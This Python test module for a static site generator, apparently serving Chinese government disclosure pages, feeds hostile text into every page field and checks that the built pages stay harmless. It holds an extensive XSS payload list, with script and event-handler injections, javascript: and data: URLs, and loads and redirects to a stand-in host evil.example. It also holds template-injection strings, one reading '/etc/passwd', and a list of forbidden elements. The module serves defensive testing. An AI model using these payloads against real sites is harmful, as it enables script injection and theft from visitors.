"""Hostile text for every place that takes text, and what a page must be to be harmless."""

from __future__ import annotations

import html
import json
import re
from collections import Counter
from pathlib import Path
from typing import Final

from tests.cli.roots import change, write_document
from tests.site.parsed import Element, Page

#: Where an address may lead: within the site, or to these.
_SCHEMES: Final = ("http:", "https:", "mailto:", "tel:")
#: Elements that run, load, frame, ask or redraw: no page has any.
_FORBIDDEN: Final = frozenset(
    [
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "form",
        "button",
        "select",
        "textarea",
        "svg",
        "math",
        "style",
        "base",
        "audio",
        "video",
        "source",
        "template",
        "portal",
        "noscript",
        "dialog",
        "marquee",
        "slot",
    ]
)

#: Texts that try to leave the place they are printed at.
TEXTS: Final = {
    "script": "<script>document.title='pwned'</script>",
    "image": "<img src=x onerror=\"document.title='pwned'\">",
    "quotes": "\"'><b onmouseover=alert(1)>“引号”",
    "ampersand": "甲&乙 &lt;不是标签&gt; &copy; &#60;",
    "jinja": "{{ 7 * 191 }}{% raise %}{# 注释 #}{{ config.site_dir }}",
    "attribute": 'x" autofocus onfocus="alert(1)',
    "comment": "--><script>alert(1)</script><!--",
    "title": "</title><script>alert(1)</script>",
    "long": "长" * 150 + "a" * 150,
    "markdown": "**粗** [链接](javascript:alert(1)) `码` # 题",
    "percent": "100% %s %(x)s ${x} $(id) \\0 \\u0041",
}

#: Bodies that try to run something, load something, or take the page's own parts.
BODIES: Final = {
    "script": "<script>document.title='pwned'</script>\n\n<script src=\"https://evil.example/x.js\"></script>",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>\n\n<SCRIPT/XSS SRC=//evil.example/x></SCRIPT>",
    "handlers": (
        "<p onclick=alert(1)>甲</p>\n\n<b/onmouseover=alert(1)>乙</b>\n\n<details open ontoggle=alert(1)>丙</details>"
    ),
    "iframe": '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "style": (
        '<style>body{background:url(https://evil.example/x)}</style>\n\n<p style="position:fixed;inset:0">盖住</p>'
    ),
    "form": '<form action="https://evil.example"><input name=x><button>登录</button></form>',
    "svg": '<svg onload=alert(1)><script>alert(1)</script><use href="data:image/svg+xml,x"/></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "object": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "javascript": (
        '[甲](javascript:alert(1)) <a href="javascript:alert(1)">乙</a> <a href="JaVa&#x09;Script:alert(1)">丙</a>'
    ),
    "javascript entity": '<a href="&#106;avascript:alert(1)">甲</a>\n\n<a href=" javascript:alert(1)">乙</a>',
    "vbscript": '[甲](vbscript:msgbox) <a href="data:text/html,<script>alert(1)</script>">乙</a>',
    "data image": '![甲](data:image/svg+xml;base64,PHN2Zz4=) <img src="data:image/png;base64,AAAA">',
    "foreign image": (
        '<img src="https://evil.example/x.png"> ![甲](https://evil.example/y.png) <img src=//evil.example/z>'
    ),
    "srcset": (
        '<img srcset="https://evil.example/x.png 2x" alt=甲>\n\n<picture><source srcset=//evil.example/x></picture>'
    ),
    "reference": "[甲][x] ![乙][y]\n\n[x]: javascript:alert(1)\n[y]: https://evil.example/x.png",
    "autolink": '<javascript:alert(1)> <https://example.gov.cn/"onmouseover=alert(1)>',
    "clobber": (
        '<a id="location" name="cookie">甲</a>\n\n<h2 id="content">乙</h2>\n\n<p id=columns class=d-header>丙</p>'
    ),
    "headings of the theme": (
        "## content\n\n## columns\n\n## attachments\n\n## corrections\n\n## latest\n\n## __drawer\n"
    ),
    "unclosed": "<div><b><i><table><tr><td>没有收尾\n\n<p>还有",
    "closing": "</div></article></div></main></body></html>\n\n正文还在",
    "comment": "<!-- x --!><script>alert(1)</script> -->\n\n<!--><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#0; &#x110000;",
    "jinja": "{{ 7 * 191 }} {% include '/etc/passwd' %} {{ ''.__class__ }}",
    "code": (
        "`<script>alert(1)</script>`\n\n"
        "    <img src=x onerror=alert(1)>\n\n```\n</code></pre><script>alert(1)</script>\n```"
    ),
    "footnotes": "正文[^1]\n\n[^1]: <script>alert(1)</script> [回](javascript:alert(1))\n[^__search]: 未引用",
    "table": "| <script>x</script> | 乙 |\n|---|---|\n| <img src=x onerror=alert(1)> | [丙](javascript:x) |",
    "long words": "字" * 3000 + "\n\n" + "w" * 3000 + "\n\n| " + "w" * 400 + " | 乙 |\n|---|---|\n| 丙 | 丁 |",
    "title attribute": '[甲](2023-first.md "x\\" onmouseover=\\"alert(1)")',
    "image alt": '!["><script>alert(1)</script>](none.png)',
    "deep": "> " * 200 + "深\n\n" + "- " * 100 + "深",
    "bidi words": '正常文字 <bdo dir=rtl>倒写</bdo> <span dir=rtl class="md-header d-banner">乙</span>',
    "link attributes": '<a href="https://example.gov.cn/" target="_top" ping="https://evil.example" download>甲</a>',
}


#: What a page may load and send, and to whom: the host alone, and no script that stands in the page.
_POLICY: Final = (
    "default-src 'none'; style-src 'self'; script-src 'self'; img-src 'self' data:; media-src 'self'; "
    "connect-src 'self'; form-action 'self'; base-uri 'none'"
)
#: The site's own scripts.
_SCRIPT: Final = re.compile(r"(?:(?:\.\./)*|/(?:[a-z]+/)*)assets/javascripts/(?:search/)?[a-z]+\.js")
#: Drawings made at build, by their class, and what they are made of.
_DRAWINGS: Final = {"d-bars": {"svg", "rect", "text"}}
#: The code drawn of a page's address, which stands in the page itself.
_CODE: Final = re.compile(r"data:image/bmp;base64,[A-Za-z0-9+/]+=*")


def _is_ours(element: Element, page: Page) -> bool:
    """Tell whether an element of a forbidden kind is one that the site's own templates put there."""
    if any("d-body" in outer.classes for outer in element.inside):
        return False
    attributes = set(element.attributes)
    if element.tag == "script" and element.get("type") == "application/ld+json":
        return attributes == {"type"} and "https://schema.org" in json.loads("".join(element.pieces))["@context"]
    if element.tag == "script":
        known = attributes <= {"src", "defer"} or (attributes == {"src", "type"} and element.get("type") == "module")
        return known and not element.text and bool(_SCRIPT.fullmatch(element.get("src")))
    if element.tag == "noscript":
        return page.address == "search.html"
    if element.tag in ("button", "form") and any("d-search" in one.classes for one in (*element.inside, element)):
        return element.get("action").endswith("directory.html") or attributes == {"type"}
    if element.tag == "button":
        return element.get("id") == "__elder" and element.get("type") == "button"
    if element.tag == "form":
        return element.classes == {"d-facets"} and attributes in (
            {"class", "data-source", "hidden"},
            {"class", "aria-label", "hidden"},
        )
    if element.tag == "svg":
        drawn = [outer for outer in (*element.inside, element) if outer.get("class") in _DRAWINGS]
        return bool(drawn) and {inner.tag for inner in page.within(drawn[0])} <= _DRAWINGS[drawn[0].get("class")]
    return False


def _is_code(element: Element) -> bool:
    """Tell whether an element is the code drawn of the page's address."""
    written = any("d-body" in outer.classes for outer in element.inside)
    return not written and element.tag == "img" and bool(_CODE.fullmatch(element.get("src")))


def assert_harmless(page: Page) -> None:
    """Nothing on the page runs but the site's own scripts, loads from another host, or has an id twice."""
    where = page.address
    found = [element for element in page.elements if element.tag in _FORBIDDEN and not _is_ours(element, page)]
    assert found == [], f"{where} has {[(element.tag, element.attributes, element.text[:60]) for element in found]}"
    for element in page.elements:
        names = [name for name in element.attributes if name.startswith("on") or name in ("style", "srcdoc", "ping")]
        assert names == [], f"{where}: <{element.tag}> has {names}"
        if element.tag == "meta" and "http-equiv" in element.attributes:
            assert element.attributes == {"http-equiv": "Content-Security-Policy", "content": _POLICY}, where
    assert len([element for element in page.elements if "http-equiv" in element.attributes]) == 1, where
    codes = [element for element in page.elements if _is_code(element)]
    assert len(codes) <= 1, where
    for element, _, value in page.addresses:
        if any(element is code for code in codes):
            continue
        bare = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", bare)
        assert not scheme or scheme[0] in _SCHEMES, f"{where}: <{element.tag}> leads to {value!r}"
    for address in set(page.loaded) - {code.get("src") for code in codes}:
        assert not re.match(r"[a-zA-Z]+:|//", address.strip()), f"{where} loads {address!r}"
    twice = [id for id, count in Counter(page.ids).items() if count > 1]
    assert twice == [], f"{where} has ids twice: {twice}"


def hostile_root(root: Path) -> Path:
    """Give a small root hostile values in every place that takes text."""
    title = TEXTS["script"] + TEXTS["quotes"]
    change(root / "catalog.yml", "name: 工作动态", f"name: {_quoted(TEXTS['image'] + TEXTS['jinja'])}")
    change(root / "catalog.yml", "description: 公布最新的工作动态。", f"description: {_quoted(TEXTS['attribute'])}")
    change(root / "catalog.yml", "basis: 条例第二十二条", f"basis: {_quoted(TEXTS['script'])}")
    change(root / "catalog.yml", "title: 试验县林业局政府信息公开", f"title: {_quoted(TEXTS['title'])}")
    change(root / "catalog.yml", "agency: 试验县林业局", f"agency: {_quoted(TEXTS['image'])}")
    change(root / "catalog.yml", "name: 试验县人民政府", f"name: {_quoted(title)}")
    change(root / "catalog.yml", "address: 试验路1号", f"address: {_quoted(TEXTS['comment'])}")
    change(root / "catalog.yml", "icp: 试验备00000000号", f"icp: {_quoted(TEXTS['script'])}")
    change(root / "catalog.yml", "name: 办公室}\npeople", f"name: {_quoted(TEXTS['script'])}}}\npeople")
    change(root / "mkdocs.yml", "  notice: ", f"  notice: {_quoted(TEXTS['script'])} #")
    for number, (name, text) in enumerate(TEXTS.items()):
        write_document(
            root,
            f"news/2023-text-{number:02}",
            title=text,
            summary=f"{name}：{text}",
            keywords=[text],
            issuer=text,
            source={"name": text, "url": "https://example.gov.cn/?a=1&b=%22%3E%3Cscript%3E&lt;"},
            corrections=[{"date": "2023-12-06", "note": text}],
            consultation={"kind": "其他", "opens": "2023-12-05", "closes": "2023-12-06", "channels": [text]},
            interprets=["news/2023-first"],
        )
    write_document(
        root,
        "news/2023-withdrawn",
        title=TEXTS["script"],
        withdrawn={"date": "2023-12-06", "reason": TEXTS["image"], "moved_to": "news/2023-text-00"},
    )
    return root


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"
